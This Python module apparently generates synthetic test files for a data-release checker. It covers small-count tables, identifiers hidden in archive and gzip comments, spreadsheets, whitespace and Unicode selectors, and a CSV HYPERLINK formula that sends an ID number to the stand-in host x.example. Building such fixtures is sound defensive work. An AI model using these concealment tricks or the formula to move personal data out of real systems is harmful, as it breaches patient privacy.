"""Leaks: groups of fewer than ten, and files that hold data by their nature."""
import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import sqlite3
import struct
import tempfile
import zipfile

from scenarios.exit_corpus import formats as f

from . import payloads as p
from .leaks_places import patched
from .registry import leak


# Few persons.


@leak
def few_csv(rng):
    return "table1.csv", f.csv_text(p.small_groups(rng))


@leak
def few_markdown(rng):
    rows = p.small_groups(rng)
    return "table1.md", "\n".join("| " + " | ".join(map(str, r)) + " |" + ("\n|" + "---|" * 4 if n == 0 else "") for n, r in enumerate(rows)) + "\n"


@leak
def few_xlsx(rng):
    return "table1.xlsx", f.xlsx([("Table 1", "", p.small_groups(rng))])


@leak
def few_html(rng):
    return "table1.html", f.html(f.html_table(p.small_groups(rng)))


@leak
def few_docx(rng):
    return "table1.docx", f.docx(["Table 1"], raw=f.word_table(p.small_groups(rng)))


@leak
def few_latex(rng):
    return "t1.tex", "\\begin{tabular}{lrrr}\n\\hline\n" + "".join(" & ".join(map(str, r)) + " \\\\\n" for r in p.small_groups(rng)) + "\\hline\n\\end{tabular}\n"


@leak
def few_n_percent(rng):
    rows = p.small_groups(rng)
    return "table1.csv", f.csv_text([rows[0]] + [[r[0]] + ["%d (%.1f%%)" % (v, 100 * v / r[3]) for v in r[1:]] for r in rows[1:]])


@leak
def few_r_table(rng):
    rows = p.small_groups(rng)
    return "out.txt", "> table(d$%s, d$sex)\n\n" % "age_group" + "".join("  %-12s" % r[0] + "".join("%8s" % v for v in r[1:3]) + "\n" for r in rows[:-1])


@leak
def few_spss(rng):
    rows = p.small_groups(rng)
    return "out.txt", "Crosstabulation\nCount\n" + "".join("|%-14s|" % r[0] + "|".join("%8s" % v for v in r[1:]) + "|\n" for r in rows)


@leak
def few_sentence(rng):
    n = rng.randrange(1, 9)
    return "results.txt", "\n".join(p.prose(rng, 2)) + "\n" + rng.choice(["このうち死亡は%d例であった。", "%d名が転院した。", "Only %d patients developed myocarditis.", "There were %d deaths in the exposed group.", "副作用による中止は%d人。", "%d of the women were lost to follow-up.", "妊婦は%d例のみであった。"]) % n + "\n"


@leak
def few_subgroup_n(rng):
    return "hr.csv", "Subgroup,N,HR,95% CI\n" + "".join("%s,%d,%.2f,%.2f-%.2f\n" % (s, n, v, v * 0.7, v * 1.5) for s, n, v in [("Age <65", rng.randrange(200, 900), 1.2), ("Age >=65", rng.randrange(200, 900), 0.9), ("Pregnant", rng.randrange(2, 9), 1.4)])


@leak
def few_json_nested(rng):
    return "t.json", json.dumps({"counts": {"male": {"0-17": rng.randrange(100, 900), "18-64": rng.randrange(100, 900)}, "female": {"0-17": rng.randrange(1, 9), "18-64": rng.randrange(100, 900)}}})


@leak
def few_flow_chart_svg(rng):
    return "flow.svg", f.svg("".join("<rect x='10' y='%d' width='200' height='30'/><text x='12' y='%d'>%s (n = %d)</text>" % (40 * i, 40 * i + 20, t, n) for i, (t, n) in enumerate([("Screened", 4121), ("Eligible", 3987), ("Withdrew", rng.randrange(1, 9)), ("Analysed", 3980)])))


@leak
def few_km_at_risk(rng):
    return "km.csv", "time,n_risk,n_event,survival\n" + "".join("%d,%d,%d,%.3f\n" % (t, n, e, s) for t, n, e, s in [(0, 212, 0, 1), (12, 180, 14, .93), (24, 97, 22, .81), (36, 31, 15, .66), (48, rng.randrange(2, 9), 11, .41)])


@leak
def few_histogram(rng):
    return "hist.csv", "bin,frequency\n" + "".join("%d-%d,%d\n" % (10 * i, 10 * i + 9, n) for i, n in enumerate([rng.randrange(1, 9), 45, 210, 480, 620, 410, 180, 66, 21, rng.randrange(1, 6)]))


@leak
def few_minmax(rng):
    return "desc.csv", "variable,n,mean,sd,min,max\nage,4312,61.2,14.1,18,%d\nlos,4312,14.2,11.0,1,%d\n" % (rng.randrange(99, 109), rng.randrange(200, 900))


@leak
def few_r_summary(rng):
    return "out.txt", "> summary(d$age)\n   Min. 1st Qu.  Median    Mean 3rd Qu.    Max. \n  %5.2f   48.00   63.00   61.24   75.00  %6.2f \n" % (rng.randrange(18, 22), rng.randrange(98, 110))


@leak
def few_stata_tab(rng):
    return "out.log", ". tab sex arm\n\n           |          arm\n       sex |         A          B |     Total\n-----------+----------------------+----------\n         F |       212        %3d |       %3d \n         M |       301        288 |       589 \n-----------+----------------------+----------\n     Total |       513        %3d |       %4d \n" % ((lambda v: (v, 212 + v, 288 + v, 801 + v))(rng.randrange(1, 9)))


@leak
def few_percent_of_small_base(rng):
    return "t.csv", "group,n,percent_with_event\nA,%d,33.3\nB,412,12.1\nC,388,10.6\n" % rng.choice([3, 6, 9])


@leak
def few_regression_n(rng):
    return "fit.txt", "Logit Regression Results\nDep. Variable: death   No. Observations: %d\nModel: Logit   Df Residuals: %d\nDf Model: 3\n            coef    std err   z   P>|z|\nage   0.0312 0.021 1.48 0.139\nsex   0.4121 0.512 0.80 0.421\n" % (lambda n: (n, n - 4))(rng.randrange(7, 12))


@leak
def few_scatter_svg(rng):
    return "scatter.svg", f.svg("".join("<circle cx='%.2f' cy='%.2f' r='2'/>" % (rng.uniform(20, 380), rng.uniform(20, 280)) for _ in range(rng.randrange(60, 200))))


@leak
def few_scatter_symbols_svg(rng):
    return "scatter.svg", f.svg("<defs><path id='m' d='M-2 0 L2 0 M0 -2 L0 2'/></defs>" + "".join("<use href='#m' x='%.2f' y='%.2f'/>" % (rng.uniform(20, 380), rng.uniform(20, 280)) for _ in range(90)))


@leak
def few_case_report(rng):
    return "case.txt", rng.choice(["症例は%d歳女性。主訴は発熱。既往に関節リウマチあり、メトトレキサート内服中であった。", "A %d-year-old woman with rheumatoid arthritis presented with fever in March 2022.", "%d歳男性、自宅で転倒し当院に救急搬送された。"]) % rng.randrange(61, 99) + "\n"

# Files that hold data by their nature.


@leak
def model_pickle(rng):
    return rng.choice(["model.pkl", "model.joblib"]), pickle.dumps({"kind": "knn", "X": [[rng.gauss(60, 10) for _ in range(5)] for _ in range(300)], "y": [rng.randrange(2) for _ in range(300)]})


@leak
def numpy_npz(rng):
    body = b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (300, 4), }".ljust(127) + b"\n" + struct.pack("<1200d", *(rng.gauss(50, 9) for _ in range(1200)))
    return "arrays.npz", f.zipped([("X.npy", body)])


@leak
def onnx_model(rng):
    return "model.onnx", b"\x08\x08\x12\x07pytorch\x1a\x051.13.0" + bytes(rng.randrange(256) for _ in range(6000))


@leak
def rds_file(rng):
    return "d.rds", gzip.compress(b"X\n\0\0\0\3\0\4\2\1\0\3\5\0\0\0\0\5UTF-8" + struct.pack(">500d", *(rng.gauss(50, 9) for _ in range(500))), mtime=0)


@leak
def rdata_file(rng):
    return "work.RData", rng.choice([bz2.compress, lzma.compress, gzip.compress])(b"RDX3\nX\n\0\0\0\3\0\4\2\1" + struct.pack(">500d", *(rng.gauss(50, 9) for _ in range(500))))


@leak
def sqlite_file(rng):
    with tempfile.NamedTemporaryFile(suffix=".db") as place:
        with sqlite3.connect(place.name) as db:
            db.execute("create table cohort(id integer, age integer, sex text)")
            db.executemany("insert into cohort values(?,?,?)", [(rng.randrange(10 ** 7), rng.randrange(20, 95), rng.choice("MF")) for _ in range(50)])
        db.close()
        return rng.choice(["cohort.sqlite", "result.db", "result.csv"]), pathlib.Path(place.name).read_bytes()


@leak
def zip_three_deep(rng):
    data = f.csv_text(p.any_rows(rng)).encode()
    for n in range(3):
        data = f.zipped([("level%d.%s" % (n, "csv" if n == 0 else "zip"), data)])
    return "outputs.zip", data


@leak
def zip_with_bytes_in_front(rng):
    return "outputs.zip", f.csv_text(p.patients(rng, 10)).encode() + f.zipped([("t.csv", f.csv_text(p.groups(rng)))])


@leak
def zip_extra_field(rng):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("t.csv")
        text = "|".join(p.identifier(rng) for _ in range(8)).encode()
        info.extra = struct.pack("<HH", 0x7777, len(text)) + text
        archive.writestr(info, f.csv_text(p.groups(rng)))
    return "outputs.zip", out.getvalue()


@leak
def zip_entry_comment(rng):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("t.csv")
        info.comment = p.note(rng).encode()
        archive.writestr(info, f.csv_text(p.groups(rng)))
    return "outputs.zip", out.getvalue()


@leak
def gzip_comment(rng):
    data = gzip.compress(f.csv_text(p.groups(rng)).encode(), mtime=0)
    return "table.csv.gz", data[:3] + bytes([data[3] | 16]) + data[4:10] + p.identifier(rng, "kanji_name").encode() + b"\0" + data[10:]


@leak
def bmp_picture(rng):
    body = bytes(rng.randrange(256) for _ in range(3 * 64 * 64))
    return rng.choice(["fig.bmp", "fig.png"]), b"BM" + struct.pack("<IHHI", 54 + len(body), 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 64, 64, 1, 24, 0, len(body), 0, 0, 0, 0) + body


@leak
def xlsx_hidden_name(rng):
    data = f.xlsx([("Table1", "", p.groups(rng))])
    names = "<definedNames><definedName name=\"_pt\" hidden=\"1\">\"%s\"</definedName></definedNames></workbook>" % p.identifier(rng).replace('"', "")
    return "table.xlsx", patched(data, "xl/workbook.xml", b"</workbook>", names.encode())


@leak
def xlsx_formula_with_row(rng):
    data = f.xlsx([("Table1", "", p.groups(rng))])
    return "table.xlsx", patched(data, "xl/worksheets/sheet1.xml", b"</sheetData>", ("<row r='90'><c r='A90'><f>VLOOKUP(%d,'C:\\data\\[患者一覧.xlsx]Sheet1'!A:F,2,0)</f><v>0</v></c></row></sheetData>" % rng.randrange(10 ** 7, 10 ** 8)).encode())


@leak
def xlsx_unused_shared_string(rng):
    data = f.xlsx([("Table1", "", p.groups(rng))])
    return "table.xlsx", patched(data, "xl/sharedStrings.xml", b"</sst>", ("<si><t>%s</t></si></sst>" % p.identifier(rng)).encode())


@leak
def csv_formula_link(rng):
    rows = p.groups(rng)
    return "table.csv", f.csv_text(rows) + '"=HYPERLINK(""http://x.example/?p=%s"",""詳細"")"\n' % p.values.my_number(rng)


@leak
def trailing_spaces_code(rng):
    bits = "".join("%s" % bin(b)[2:].zfill(8) for b in ("%s" % p.identifier(rng)).encode())
    lines = [" ".join(p.prose(rng, 1)) for _ in range(len(bits) // 8)]
    return "paper.txt", "".join(line + bits[8 * i:8 * i + 8].replace("0", " ").replace("1", "\t") + "\n" for i, line in enumerate(lines))


@leak
def variation_selectors(rng):
    hidden = "".join(chr(0xE0100 + b - 16) if b >= 16 else chr(0xFE00 + b) for b in p.identifier(rng).encode())
    return "paper.txt", p.prose(rng)[0] + "😀" + hidden + "\n"


@leak
def column_names_as_ids(rng):
    ids = ["%08d" % rng.randrange(10 ** 8) for _ in range(30)]
    return "wide.csv", ",".join(["marker"] + ids) + "\n" + "".join("gene%d,%s\n" % (n, ",".join("%.2f" % rng.gauss(5, 1) for _ in ids)) for n in range(20))


@leak
def file_name_person(rng):
    return "%s_%s.csv" % (rng.choice(["結果", "result", "患者"]), p.name(rng, "kanji").replace(" ", "").replace("　", "")), f.csv_text(p.groups(rng))


@leak
def file_name_number(rng):
    return "table_%s.csv" % p.values.my_number(rng), f.csv_text(p.groups(rng))


@leak
def few_counts_percent_columns(rng):
    rows = p.small_groups(rng)
    return "t.csv", f.csv_text([["class", "n", "pct"]] + [[r[0], min(r[1], r[2]), "%.1f" % (100 * min(r[1], r[2]) / rows[-1][1])] for r in rows[1:-1]])


@leak
def few_words(rng):
    return "results.txt", p.prose(rng)[0] + rng.choice([" Two patients died.", " One woman was lost to follow-up.", "死亡は三名であった。", " Three cases of anaphylaxis were seen.", "該当者は2人である。"]) + "\n"
